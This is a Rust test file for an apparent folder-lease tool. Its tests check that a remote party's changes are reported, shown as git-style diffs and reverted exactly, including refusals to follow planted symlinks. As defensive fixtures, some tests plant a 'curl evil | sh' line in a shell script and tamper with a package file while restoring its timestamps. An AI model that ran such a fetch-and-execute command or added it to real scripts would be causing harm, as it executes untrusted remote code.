//! The changes of a lease: reported, shown and reverted, with real git where the folder has it.

mod git;
mod hunks;
mod race;
mod random;

use std::{
    collections::BTreeMap,
    fs,
    os::unix::fs::{MetadataExt as _, PermissionsExt as _, symlink},
    path::{Path, PathBuf},
    process::Command,
    sync::Arc,
};

use attache_protocol::wire::{
    awcp::AccessMode,
    delegation::{ChangedPath, DiffStat, FileChangeKind, KeptPath, RevertRequest, RevertResult},
};
use attache_workspace::{
    export::{
        AttributeChange, Export, ExportTerms, FileOpenOptions, FileTime, LeaseRecord, NoExportAudit, OriginalsFolder,
        ReplaceMode,
    },
    report,
};

use super::ExportFixture;

/// Everything about a tree that a revert must restore: kind, mode, times, content or target, and which names are one
/// file.
type TreeState = BTreeMap<PathBuf, (u32, i64, i64, Vec<u8>, Vec<PathBuf>)>;

fn state(dir: &Path) -> TreeState {
    let mut found = TreeState::new();
    let mut names: BTreeMap<u64, Vec<PathBuf>> = BTreeMap::new();
    let mut paths = vec![dir.to_owned()];
    while let Some(path) = paths.pop() {
        let stat = fs::symlink_metadata(&path).unwrap();
        let content = if stat.is_symlink() {
            fs::read_link(&path).unwrap().into_os_string().into_encoded_bytes()
        } else if stat.is_file() {
            names.entry(stat.ino()).or_default().push(path.clone());
            fs::read(&path).unwrap()
        } else {
            paths.extend(fs::read_dir(&path).unwrap().map(|entry| entry.unwrap().path()));
            Vec::new()
        };
        found.insert(path, (stat.mode(), stat.mtime(), stat.mtime_nsec(), content, Vec::new()));
    }
    for group in names.into_values().filter(|group| group.len() > 1) {
        let mut group = group;
        group.sort();
        for path in &group {
            found.get_mut(path).unwrap().4 = group.clone();
        }
    }
    found
}

fn prepare(dir: &Path) {
    for folder in ["src/deep", "gone/inner", "empty"] {
        fs::create_dir_all(dir.join(folder)).unwrap();
    }
    for (file, content) in [
        ("src/a.rs", "one\ntwo\nthree\n"),
        ("src/deep/b.rs", "b\n"),
        ("gone/x", "x\n"),
        ("gone/inner/y", "y\n"),
        ("mode.sh", "#!/bin/sh\n"),
        ("renamed", "same bytes\n"),
        ("over", "will be replaced\n"),
        ("twin1", "twins\n"),
        ("untouched", "-\n"),
    ] {
        fs::write(dir.join(file), content).unwrap();
    }
    fs::hard_link(dir.join("twin1"), dir.join("twin2")).unwrap();
    symlink("src/a.rs", dir.join("link")).unwrap();
    fs::set_permissions(dir.join("mode.sh"), fs::Permissions::from_mode(0o755)).unwrap();
    // Old enough that no change of today has the same time.
    let old = fs::FileTimes::new().set_modified(std::time::UNIX_EPOCH + std::time::Duration::new(1_600_000_000, 7));
    let mut paths = vec![dir.to_owned()];
    while let Some(path) = paths.pop() {
        if path.is_symlink() {
            continue;
        }
        fs::File::open(&path).unwrap().set_times(old).unwrap();
        if path.is_dir() {
            paths.extend(fs::read_dir(&path).unwrap().map(|entry| entry.unwrap().path()));
        }
    }
}

/// One of every kind of change.
fn work(fixture: &ExportFixture) {
    let export = &fixture.export;
    fixture.write("src/a.rs", b"one\n2\nthree\nfour\n");
    fixture.write("src/new.rs", b"new\n");
    export.make_dir(b"made", 0o755).unwrap();
    fixture.write("made/file", b"\0binary");
    fixture.write("made/temporary", b"t");
    export.remove_file(b"made/temporary").unwrap();
    export.remove_file(b"gone/x").unwrap();
    export.remove_file(b"gone/inner/y").unwrap();
    export.remove_dir(b"gone/inner").unwrap();
    export.remove_dir(b"gone").unwrap();
    export.set_attributes(b"mode.sh", &AttributeChange { mode: Some(0o644), ..AttributeChange::default() }).unwrap();
    export.rename(b"renamed", b"src/moved", ReplaceMode::Never).unwrap();
    fixture.write("tmp", b"replaced\n");
    export.rename(b"tmp", b"over", ReplaceMode::Always).unwrap();
    fixture.write("twin1", b"changed twins\n");
    export.remove_file(b"twin2").unwrap();
    export.remove_file(b"link").unwrap();
    export.symlink(b"over", b"link").unwrap();
    export.rename(b"src/deep", b"src/deeper", ReplaceMode::Never).unwrap();
    fixture.write("src/deeper/b.rs", b"written after the move\n");
    let touched = FileTime { seconds: 5, nanos: 0 };
    export
        .set_attributes(b"empty", &AttributeChange { modified: Some(touched), ..AttributeChange::default() })
        .unwrap();
}

fn changed(path: &str, change: FileChangeKind, lines: Option<(u64, u64)>) -> ChangedPath {
    let (added, removed) = lines.unzip();
    ChangedPath { path: path.to_owned(), change, added, removed, also_changed_here: false, run_by: None }
}

#[test]
fn every_change_is_reported_and_reverted_to_the_byte() {
    let fixture = ExportFixture::new(prepare);
    let before = state(&fixture.dir());
    work(&fixture);
    fixture.export.revoke();
    let record = fixture.export.changes();
    let changes = report::changes(&fixture.dir(), &record).unwrap();
    assert_eq!(
        changes.changed_paths,
        [
            changed("gone/inner/y", FileChangeKind::Removed, Some((0, 1))),
            changed("gone/x", FileChangeKind::Removed, Some((0, 1))),
            changed("link", FileChangeKind::Modified, Some((1, 1))),
            changed("made/file", FileChangeKind::Added, None),
            changed("mode.sh", FileChangeKind::Attributes, None),
            changed("over", FileChangeKind::Modified, Some((1, 1))),
            changed("renamed", FileChangeKind::Removed, Some((0, 1))),
            changed("src/a.rs", FileChangeKind::Modified, Some((2, 1))),
            changed("src/deep/b.rs", FileChangeKind::Removed, Some((0, 1))),
            changed("src/deeper/b.rs", FileChangeKind::Added, Some((1, 0))),
            changed("src/moved", FileChangeKind::Added, Some((1, 0))),
            changed("src/new.rs", FileChangeKind::Added, Some((1, 0))),
            changed("twin1", FileChangeKind::Modified, Some((1, 1))),
            changed("twin2", FileChangeKind::Removed, Some((0, 1))),
        ]
    );
    assert_eq!(changes.diff_stat, DiffStat { files_changed: 14, insertions: 8, deletions: 9 });
    // What a killed daemon would find on disk is the same.
    let loaded = LeaseRecord::load(&fixture.all.path().join("before")).unwrap();
    assert_eq!(report::changes(&fixture.dir(), &loaded).unwrap(), changes);

    let reverted = report::revert(&fixture.dir(), &loaded, &RevertRequest::default()).unwrap();
    assert_eq!(reverted.kept, []);
    assert_eq!(state(&fixture.dir()), before);
    // Reverting again changes nothing.
    assert_eq!(report::revert(&fixture.dir(), &loaded, &RevertRequest::default()).unwrap(), RevertResult::default());
    assert_eq!(state(&fixture.dir()), before);
    assert_eq!(
        report::changes(&fixture.dir(), &record).unwrap(),
        attache_protocol::wire::delegation::FolderChanges::default()
    );
}

#[test]
fn the_diff_looks_like_that_of_git() {
    let fixture = ExportFixture::new(|dir| {
        fs::write(dir.join("a"), "one\ntwo\nthree\n").unwrap();
        fs::write(dir.join("m"), "m").unwrap();
        fs::set_permissions(dir.join("m"), fs::Permissions::from_mode(0o644)).unwrap();
    });
    fixture.write("a", b"one\n2\nthree\n");
    fixture.write("b", b"no newline");
    fixture.export.set_attributes(b"m", &AttributeChange { mode: Some(0o755), ..AttributeChange::default() }).unwrap();
    fixture.export.revoke();
    let mode = fs::metadata(fixture.dir().join("b")).unwrap().mode();
    let expected = format!(
        "diff --git a/a b/a\n--- a/a\n+++ b/a\n@@ -1,3 +1,3 @@\n one\n-two\n+2\n three\n\
         diff --git a/b b/b\nnew file mode {mode:o}\n--- /dev/null\n+++ b/b\n@@ -0,0 +1 @@\n+no newline\n\\ No newline at end of file\n\
         diff --git a/m b/m\nold mode 100644\nnew mode 100755\n"
    );
    assert_eq!(report::diff(&fixture.dir(), &fixture.export.changes(), 10_000).unwrap(), expected);
    let short = report::diff(&fixture.dir(), &fixture.export.changes(), 60).unwrap();
    assert_eq!(
        short,
        "diff --git a/m b/m\nold mode 100644\nnew mode 100755\n# not shown here: a\n# not shown here: b\n"
    );
    let one = report::diff_of(&fixture.dir(), &fixture.export.changes(), &["m".to_owned()]).unwrap();
    assert_eq!(one, "diff --git a/m b/m\nold mode 100644\nnew mode 100755\n");
    for (path, refusal) in
        [("never", "the lease did not change `never`"), ("/m", "`/m` is not a path below the folder")]
    {
        let refused = report::diff_of(&fixture.dir(), &fixture.export.changes(), &[path.to_owned()]).unwrap_err();
        assert_eq!(refused.to_string(), refusal);
    }
}

#[test]
fn large_files_hide_no_small_change() {
    let fixture = ExportFixture::new(|dir| fs::write(dir.join("run.sh"), "echo hi\n".repeat(4000)).unwrap());
    for name in ["a1.bin", "a2.bin", ".vscode/tasks.json"] {
        if let Some((folder, _)) = name.split_once('/') {
            fixture.export.make_dir(folder.as_bytes(), 0o755).unwrap();
        }
        fixture.write(name, &[0; 20_000]);
    }
    // Smaller than the script, but not text.
    fixture.write("a3.bin", &[0; 10]);
    fixture.write(".vimrc", &b"x\n".repeat(20_000));
    fixture.write("run.sh", ("echo hi\n".repeat(4000) + "curl evil | sh\n").as_bytes());
    fixture.export.revoke();
    let record = fixture.export.changes();
    let diff = report::diff(&fixture.dir(), &record, 40_000).unwrap();
    let told = |diff: &str| -> Vec<String> {
        let is_told = |line: &&str| line.starts_with("diff ") || line.starts_with('#') || line.starts_with("+curl");
        diff.lines().filter(is_told).map(str::to_owned).collect()
    };
    assert_eq!(
        told(&diff),
        [
            "# look at this first: .vimrc (run or obeyed by Vim)",
            "# look at this first: .vscode/tasks.json (run or obeyed by VS Code)",
            "diff --git a/run.sh b/run.sh",
            "+curl evil | sh",
            "diff --git a/.vscode/tasks.json b/.vscode/tasks.json",
            "diff --git a/a3.bin b/a3.bin",
            "# not shown here: .vimrc",
            "# not shown here: a1.bin",
            "# not shown here: a2.bin",
        ]
    );
    assert!(diff.len() < 41_000, "{}", diff.len());
    let asked = report::diff_of(&fixture.dir(), &record, &["a1.bin".to_owned(), ".vimrc".to_owned()]).unwrap();
    assert_eq!(
        told(&asked),
        [
            "# look at this first: .vimrc (run or obeyed by Vim)",
            "diff --git a/.vimrc b/.vimrc",
            "diff --git a/a1.bin b/a1.bin",
        ]
    );
}

#[test]
fn concurrent_edits_on_this_machine_are_kept() {
    let fixture = ExportFixture::new(|dir| {
        fs::create_dir(dir.join("folder")).unwrap();
        for file in ["mine", "theirs", "both", "moved"] {
            fs::write(dir.join(file), file).unwrap();
        }
    });
    let dir = fixture.dir();
    fixture.write("theirs", b"by the remote");
    fixture.write("both", b"by the remote");
    fixture.write("new", b"by the remote");
    fixture.export.make_dir(b"made", 0o755).unwrap();
    fixture.export.rename(b"moved", b"elsewhere", ReplaceMode::Never).unwrap();
    fs::write(dir.join("mine"), "edited here").unwrap();
    fs::write(dir.join("both"), "edited here after that").unwrap();
    fs::write(dir.join("made/here"), "put here").unwrap();
    // In place, under its new name: the bytes kept by a link change with it.
    fs::write(dir.join("elsewhere"), "edited here").unwrap();
    fixture.export.revoke();
    fs::write(dir.join("new"), "edited here after the end").unwrap();
    let record = fixture.export.changes();
    let changes = report::changes(&dir, &record).unwrap();
    let also: Vec<_> =
        changes.changed_paths.iter().filter(|path| path.also_changed_here).map(|path| &path.path[..]).collect();
    assert_eq!(also, ["both", "elsewhere", "made", "new"]);
    let reverted = report::revert(&dir, &record, &RevertRequest::default()).unwrap();
    let edited = "it was edited on this machine after the remote changed it";
    let kept = |path: &str, reason: &str| KeptPath {
        path: path.to_owned(),
        reason: reason.to_owned(),
        conflict: reason == edited,
        versions: Vec::new(),
    };
    assert_eq!(
        reverted,
        RevertResult {
            restored: vec!["theirs".to_owned()],
            kept: vec![
                kept("both", edited),
                kept("elsewhere", edited),
                kept("moved", "the remote moved it, and it was edited on this machine under its new name"),
                kept("new", edited),
                kept("made", "files were added to it on this machine"),
            ],
        }
    );
    for (file, content) in [("mine", "edited here"), ("theirs", "theirs"), ("both", "edited here after that")] {
        assert_eq!(fs::read_to_string(dir.join(file)).unwrap(), content);
    }
    assert_eq!(fs::read_to_string(dir.join("made/here")).unwrap(), "put here");
    assert_eq!(fs::read_to_string(dir.join("elsewhere")).unwrap(), "edited here");
}

#[test]
fn a_folder_can_be_reverted_without_what_is_below() {
    let fixture = ExportFixture::new(prepare);
    work(&fixture);
    fixture.export.revoke();
    let alone = RevertRequest { paths: vec!["gone".to_owned()], alone: true, ..RevertRequest::default() };
    let reverted = report::revert(&fixture.dir(), &fixture.export.changes(), &alone).unwrap();
    assert_eq!(reverted.restored, ["gone"]);
    assert!(fs::read_dir(fixture.dir().join("gone")).unwrap().next().is_none());
}

#[test]
fn nothing_is_reverted_where_a_link_leads() {
    let fixture = ExportFixture::new(prepare);
    work(&fixture);
    fixture.export.revoke();
    let (dir, changes) = (fixture.dir(), fixture.export.changes());
    let (moved, elsewhere) = (dir.with_extension("moved"), tempfile::tempdir().unwrap());
    fs::rename(&dir, &moved).unwrap();
    std::os::unix::fs::symlink(elsewhere.path(), &dir).unwrap();
    let refused = report::revert(&dir, &changes, &RevertRequest::default()).unwrap_err();
    assert!(refused.to_string().contains("now contains a symbolic link"), "{refused}");
    assert!(fs::read_dir(elsewhere.path()).unwrap().next().is_none());
    fs::remove_file(&dir).unwrap();
    fs::rename(&moved, &dir).unwrap();
}

#[test]
fn single_paths_can_be_reverted() {
    let fixture = ExportFixture::new(prepare);
    work(&fixture);
    fixture.export.revoke();
    let revert = |paths: &[&str]| {
        let paths = paths.iter().map(|path| (*path).to_owned()).collect();
        report::revert(&fixture.dir(), &fixture.export.changes(), &RevertRequest { paths, ..RevertRequest::default() })
    };
    for (path, why) in [
        ("untouched", "the lease did not change `untouched`"),
        ("../x", "`../x` is not a path below the folder"),
        ("/src/a.rs", "`/src/a.rs` is not a path below the folder"),
    ] {
        assert_eq!(revert(&["gone", path]).unwrap_err().to_string(), why);
    }
    assert!(!fixture.dir().join("gone").exists(), "with an invalid path, nothing is done");
    let reverted = revert(&["gone", "src/a.rs"]).unwrap();
    assert_eq!(reverted.restored, ["gone", "gone/inner", "gone/inner/y", "gone/x", "src/a.rs"]);
    assert_eq!(reverted.kept, []);
    assert_eq!(fs::read_to_string(fixture.dir().join("src/a.rs")).unwrap(), "one\ntwo\nthree\n");
    assert_eq!(fs::read_to_string(fixture.dir().join("over")).unwrap(), "replaced\n");
}

#[test]
fn a_file_that_was_never_closed_is_reverted_too() {
    let fixture = ExportFixture::new(|dir| fs::write(dir.join("f"), "before").unwrap());
    let how = FileOpenOptions { write: true, ..FileOpenOptions::default() };
    let file = fixture.export.open_file(b"f", &how).unwrap();
    file.write_at(0, b"AFTER").unwrap();
    // As after a crash: from disk alone, while the file is still open.
    let record = LeaseRecord::load(&fixture.all.path().join("before")).unwrap();
    let reverted = report::revert(&fixture.dir(), &record, &RevertRequest::default()).unwrap();
    assert_eq!(reverted, RevertResult { restored: vec!["f".to_owned()], kept: Vec::new() });
    assert_eq!(fs::read_to_string(fixture.dir().join("f")).unwrap(), "before");
}

#[test]
fn a_resized_file_that_was_never_closed_is_reverted_too() {
    let fixture = ExportFixture::new(|dir| fs::write(dir.join("f"), "before").unwrap());
    let how = FileOpenOptions { write: true, ..FileOpenOptions::default() };
    let (file, second) = (fixture.export.open_file(b"f", &how).unwrap(), fixture.export.open_file(b"f", &how).unwrap());
    file.set_attributes(&AttributeChange { size: Some(2), ..AttributeChange::default() }).unwrap();
    file.write_at(2, b"AFTER").unwrap();
    drop(second);
    file.write_at(7, b"WARDS").unwrap();
    let record = LeaseRecord::load(&fixture.all.path().join("before")).unwrap();
    let reverted = report::revert(&fixture.dir(), &record, &RevertRequest::default()).unwrap();
    assert_eq!(reverted, RevertResult { restored: vec!["f".to_owned()], kept: Vec::new() });
    assert_eq!(fs::read_to_string(fixture.dir().join("f")).unwrap(), "before");
}

#[test]
fn after_the_end_no_file_shares_its_bytes_with_an_original() {
    let ExportFixture { all, export, .. } = ExportFixture::new(|dir| {
        fs::create_dir(dir.join("d")).unwrap();
        fs::write(dir.join("d/f"), "moved").unwrap();
        fs::write(dir.join("gone"), "gone").unwrap();
    });
    let dir = all.path().join("lent");
    export.rename(b"d", b"e", ReplaceMode::Never).unwrap();
    export.remove_file(b"gone").unwrap();
    export.revoke();
    drop(export);
    assert_eq!(fs::metadata(dir.join("e/f")).unwrap().nlink(), 1);
    // Written in place on this machine. The original doesn't change.
    fs::write(dir.join("e/f"), "EDITED").unwrap();
    let record = LeaseRecord::load(&all.path().join("before")).unwrap();
    let reverted = report::revert(&dir, &record, &RevertRequest::default()).unwrap();
    assert_eq!(reverted.restored, ["d", "d/f", "gone"]);
    assert_eq!(fs::read_to_string(dir.join("d/f")).unwrap(), "moved");
    assert_eq!(fs::read_to_string(dir.join("e/f")).unwrap(), "EDITED");
}

#[test]
fn a_revert_does_not_follow_a_planted_link() {
    let fixture = ExportFixture::new(|dir| {
        fs::create_dir(dir.join("d")).unwrap();
        fs::create_dir(dir.parent().unwrap().join("outside")).unwrap();
        fs::write(dir.join("d/f"), "inside").unwrap();
    });
    fixture.export.remove_file(b"d/f").unwrap();
    fixture.export.remove_dir(b"d").unwrap();
    fixture.export.revoke();
    symlink("../outside", fixture.dir().join("d")).unwrap();
    let changes = report::changes(&fixture.dir(), &fixture.export.changes()).unwrap();
    assert_eq!(changes.changed_paths.len(), 2);
    let reverted = report::revert(&fixture.dir(), &fixture.export.changes(), &RevertRequest::default()).unwrap();
    assert_eq!(reverted.restored, [""; 0]);
    assert_eq!(reverted.kept.len(), 2);
    assert_eq!(fs::read_dir(fixture.all.path().join("outside")).unwrap().count(), 0);
}

#[test]
fn changed_bytes_are_noticed_even_if_all_attributes_are_restored() {
    let time = FileTime { seconds: 499_162_500, nanos: 0 };
    let fixture = ExportFixture::new(|dir| {
        for name in ["package", "gone"] {
            fs::write(dir.join(name), "module.exports = good").unwrap();
            let old = std::time::UNIX_EPOCH + std::time::Duration::from_secs(499_162_500);
            fs::File::open(dir.join(name)).unwrap().set_modified(old).unwrap();
        }
        fs::hard_link(dir.join("gone"), dir.join("stays")).unwrap();
    });
    let before = state(&fixture.dir());
    fixture.export.remove_file(b"gone").unwrap();
    let how = FileOpenOptions { write: true, ..FileOpenOptions::default() };
    for name in ["package", "stays"] {
        let file = fixture.export.open_file(name.as_bytes(), &how).unwrap();
        file.write_at(17, b"evil").unwrap();
        drop(file);
        let back = AttributeChange { modified: Some(time), ..AttributeChange::default() };
        fixture.export.set_attributes(name.as_bytes(), &back).unwrap();
    }
    fixture.export.revoke();
    let record = LeaseRecord::load(&fixture.all.path().join("before")).unwrap();
    assert_eq!(
        report::changes(&fixture.dir(), &record).unwrap().changed_paths,
        [
            changed("gone", FileChangeKind::Removed, Some((0, 1))),
            changed("package", FileChangeKind::Modified, Some((1, 1))),
            changed("stays", FileChangeKind::Modified, Some((1, 1))),
        ]
    );
    assert!(report::diff(&fixture.dir(), &record, 10_000).unwrap().contains("+module.exports = evil"));
    let reverted = report::revert(&fixture.dir(), &record, &RevertRequest::default()).unwrap();
    assert_eq!(reverted.restored, ["gone", "package", "stays"]);
    assert_eq!(state(&fixture.dir()), before);
}

#[test]
fn two_reverts_in_one_folder_do_not_collide() {
    let all = tempfile::tempdir().unwrap();
    let (dir, before) = (all.path().join("lent"), |name: &str| all.path().join(name).join("before"));
    fs::create_dir(&dir).unwrap();
    for name in ["first", "second"] {
        fs::write(dir.join(name), "").unwrap();
        let terms = ExportTerms::new(AccessMode::Rw);
        let export =
            Export::open(&dir, terms, OriginalsFolder::in_folder(before(name)), Arc::new(NoExportAudit)).unwrap();
        let how = FileOpenOptions { write: true, ..FileOpenOptions::default() };
        export.open_file(name.as_bytes(), &how).unwrap().write_at(0, b"by the remote").unwrap();
        export.revoke();
    }
    let revert = |name: &str| {
        report::revert(&dir, &LeaseRecord::load(&before(name)).unwrap(), &RevertRequest::default()).unwrap()
    };
    let restored = |name: &str| RevertResult { restored: vec![name.to_owned()], kept: Vec::new() };
    // The first one blocks in the middle of a file: its original can be opened, but never ends.
    let original = before("first").join("1");
    fs::remove_file(&original).unwrap();
    assert!(Command::new("mkfifo").arg(&original).status().unwrap().success());
    std::thread::scope(|scope| {
        let first = scope.spawn(|| revert("first"));
        let endless = fs::OpenOptions::new().write(true).open(&original).unwrap();
        while fs::read_dir(&dir).unwrap().count() < 3 {
            std::thread::yield_now();
        }
        assert_eq!(revert("second"), restored("second"));
        drop(endless);
        assert_eq!(first.join().unwrap(), restored("first"));
    });
    assert_eq!((fs::read(dir.join("first")).unwrap(), fs::read(dir.join("second")).unwrap()), (vec![], vec![]));
    assert_eq!(fs::read_dir(&dir).unwrap().count(), 2);
}
